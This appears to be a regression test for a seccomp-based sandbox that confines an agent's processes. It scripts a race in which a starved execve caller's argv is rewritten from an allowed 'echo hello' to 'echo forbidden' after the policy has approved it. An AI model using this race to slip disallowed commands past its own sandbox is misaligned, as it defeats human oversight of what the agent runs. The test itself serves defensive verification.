# Attack (review 4, fixed): the exec freeze lets the caller's stopped threads go after one second whether or not
# the exec has copied its arguments (Frozen::wait_exec, RELEASE_AFTER; only a sharer held at its
# exit makes it kill the caller). A caller that runs slowly enough inside execve, here the calling
# thread in SCHED_IDLE with both cores kept busy by processes of the agent that share nothing with
# it (so are never stopped), is still copying its large environment when the freeze ends; its
# other thread, let go, rewrites argv[1] of an allowed `echo hello` to "forbidden" before the kernel
# copies argv (the environment is copied first). Nothing else is needed: the program's path is an
# ordinary one, the strings sit in private anonymous memory. Mode "plain" is the control: the same
# without SCHED_IDLE and the busy processes.
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 240, "stdout": ["forbidden_printed=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "argv": ["echo", "forbidden"]}}
import ctypes, os, sys, threading, time, select, resource
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.syscall.restype = ctypes.c_long
MODE = sys.argv[1] if len(sys.argv) > 1 else "starve"
ATTEMPTS = int(sys.argv[2]) if len(sys.argv) > 2 else 3
HOGS = int(os.environ.get("R4_HOGS", "3"))
MAP_PRIVATE, MAP_ANON, MAP_FIXED_NOREPLACE = 0x02, 0x20, 0x100000
B = 0x7e0000000000
ENV_COPIES = int(os.environ.get("R4_ENV", "300000"))

def attempt():
    r_out, w_out = os.pipe()
    pid = os.fork()
    if pid == 0:
        soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
        want = 64 << 20
        if hard == resource.RLIM_INFINITY or hard >= want:
            resource.setrlimit(resource.RLIMIT_STACK, (want, hard))
        os.dup2(w_out, 1); os.dup2(w_out, 2)
        size = 0x20000 + 8 * (ENV_COPIES + 1)
        if libc.mmap(B, size, 3, MAP_PRIVATE | MAP_ANON | MAP_FIXED_NOREPLACE, -1, 0) != B:
            os.write(1, b"MMAP-FAILED\n"); os._exit(1)
        ctypes.memmove(B + 0x1000, b"hello\0\0\0\0\0", 10)
        ctypes.memmove(B + 0x1100, b"echo\0", 5)
        ctypes.memmove(B + 0x1200, b"/usr/bin/echo\0", 14)
        argv = (ctypes.c_uint64 * 3).from_address(B + 0x2000)
        argv[0], argv[1], argv[2] = B + 0x1100, B + 0x1000, 0
        big = B + 0x10000
        ctypes.memmove(big, b"A=1\0", 4)
        envp = (ctypes.c_uint64 * (ENV_COPIES + 1)).from_address(B + 0x20000)
        envp[:ENV_COPIES] = [big] * ENV_COPIES
        envp[ENV_COPIES] = 0
        tid = threading.get_native_id()
        fd = os.open("/proc/self/task/%d/stat" % tid, os.O_RDONLY)
        ready = threading.Event()
        def rewriter():
            ready.set()
            # The caller sleeps in its seccomp wait while its exec is judged (reading a large
            # environment takes the supervisor a while); running again means it was continued.
            waiting_since = None
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline:
                s = os.pread(fd, 512, 0)
                st = s[s.rindex(b")") + 2:s.rindex(b")") + 3]
                now = time.monotonic()
                if st in (b"S", b"D"):
                    if waiting_since is None:
                        waiting_since = now
                elif waiting_since is not None and now - waiting_since < 0.05:
                    waiting_since = None
                elif waiting_since is not None:
                    ctypes.memmove(B + 0x1000, b"forbidden\0", 10)
                    return
        threading.Thread(target=rewriter, daemon=True).start()
        ready.wait()
        if MODE == "starve":
            # Only this thread, the exec's caller: the lowest scheduling class there is.
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        libc.syscall(59, ctypes.c_uint64(B + 0x1200), ctypes.c_uint64(B + 0x2000), ctypes.c_uint64(B + 0x20000))
        os.write(1, b"EXECVE-FAILED errno=%d\n" % ctypes.get_errno())
        os._exit(1)
    os.close(w_out)
    return output_until(r_out, pid, 30)

counts = {"forbidden": 0, "hello": 0, "failed": 0, "other": 0}
t0 = time.time()
hogs = []
if MODE == "starve":
    # Processes of their own (no memory or cwd shared: never stopped by the exec freeze) that
    # keep both cores busy, so the starved caller's kernel copy of its large environment takes
    # longer than the freeze's one-second bound.
    for _ in range(HOGS):
        h = os.fork()
        if h == 0:
            while True:
                pass
        hogs.append(h)
for _ in range(ATTEMPTS):
    out = attempt()
    if b"forbidden" in out: counts["forbidden"] += 1
    elif b"hello" in out: counts["hello"] += 1
    elif b"EXECVE-FAILED" in out: counts["failed"] += 1
    else: counts["other"] += 1
    if time.time() - t0 > 150: break
for h in hogs:
    os.kill(h, 9)
print("mode=%s attempts=%d forbidden_printed=%d hello=%d execve_failed=%d other=%d secs=%.1f" % (
    MODE, sum(counts.values()), counts["forbidden"], counts["hello"], counts["failed"],
    counts["other"], time.time() - t0), flush=True)
